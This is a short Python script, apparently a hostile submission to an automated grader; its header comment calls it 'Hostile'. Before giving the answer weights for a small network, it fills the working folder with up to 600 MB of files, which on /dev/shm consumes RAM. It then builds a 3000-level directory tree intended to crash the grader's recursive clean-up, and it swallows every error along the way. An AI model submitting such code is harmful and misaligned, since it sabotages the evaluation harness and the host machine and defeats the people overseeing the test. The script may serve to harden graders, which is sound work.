# Hostile: fill the working folder (16 MB files, up to 600 MB) and leave a folder tree 3000 levels deep
# in it, every failure swallowed; then the right weights. Aimed at the grader: its clean-up (a recursive
# rmtree overflows on such a tree) and the machine's memory (a folder on /dev/shm is RAM).
import os

for k in range(40):
    try:
        with open(f"fill{k}", "wb") as out:
            out.write(b"\1" * ((16 << 20) - 1))
    except OSError:
        break
here = os.getcwd()
try:
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass
os.chdir(here)

U = [[1, 1], [1, 1], [1, 1]]
W = [[0, 1, 0], [0, 1, 0], [0, 1, 0]]
V = [[1, -1, 1]]
b_h = [-0.5, -1.5, -2.5]
b_y = -0.5
